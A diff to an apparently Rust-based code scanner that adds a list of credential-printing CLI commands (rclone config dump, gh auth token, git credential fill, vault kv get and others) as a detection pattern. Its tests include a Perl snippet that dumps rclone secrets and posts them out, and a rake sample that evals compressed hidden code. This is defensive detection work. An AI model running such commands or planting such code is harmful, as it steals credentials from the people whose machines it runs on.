@@ -292,6 +292,23 @@ const ENV_DUMPS: [&str; 8] = [
     "getenv()",
 ];
 
+/// Commands that print a credential a tool keeps, run from those languages (backticks,
+/// `exec.Command`, `system`), lowercase.
+const SECRET_COMMANDS: [&str; 12] = [
+    "rclone config dump",
+    "rclone reveal",
+    "gh auth token",
+    "security find-generic-password",
+    "security find-internet-password",
+    "export-credentials",
+    "print-access-token",
+    "get-access-token",
+    "config view --raw",
+    "git credential fill",
+    "op item get",
+    "vault kv get",
+];
+
 /// Records, for a file in a language the evaluator does not model, a secret file it
 /// names (a literal path, or literal pieces joined on one line) or the whole
 /// environment it reads, together with a network send in the same file: `secret-read`
@@ -329,6 +346,12 @@ pub fn record_unmodelled(out: &mut Findings, path: &str, text: &str) {
                         .iter()
                         .find(|f| lower.contains(**f))
                         .map(|f| (index + 1, f.to_string(), "env-dump"))
+                })
+                .or_else(|| {
+                    SECRET_COMMANDS
+                        .iter()
+                        .find(|c| lower.contains(**c))
+                        .map(|c| (index + 1, c.to_string(), "cli-credentials"))
                 });
         }
         if secret.is_some() && send.is_some() {
@@ -475,6 +498,12 @@ mod tests {
         record_unmodelled(&mut out, "sync.rb", ruby);
         let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
         assert_eq!(tags, ["secret-read/cloud-credentials", "egress/http"]);
+        let perl =
+            "my $dump = `rclone config dump`;\nmy $ua = LWP::UserAgent->new;\n$ua->post($health, Content => $dump);\n";
+        let mut out = Findings::default();
+        record_unmodelled(&mut out, "health.pl", perl);
+        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
+        assert_eq!(tags, ["secret-read/cli-credentials", "egress/http"]);
         let rake = "src = File.read(__FILE__).split(/^__END__$/, 2).last\nTOPLEVEL_BINDING.receiver.instance_eval(Zlib::Inflate.inflate(src.unpack1(\"m\")))\n";
         let mut out = Findings::default();
         record_unmodelled(&mut out, "audit.rake", rake);
